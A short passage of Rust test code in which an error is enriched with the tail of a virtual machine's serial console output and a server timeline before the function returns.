            anyhow::anyhow!(
                "{e}\nconsole:\n{}\ntimeline:\n{:?}",
                rackseed_tests::tail(&vm.serial(), 40),
                srv.timeline(host).unwrap_or_default()
            )
        })?;
    Ok(())
}
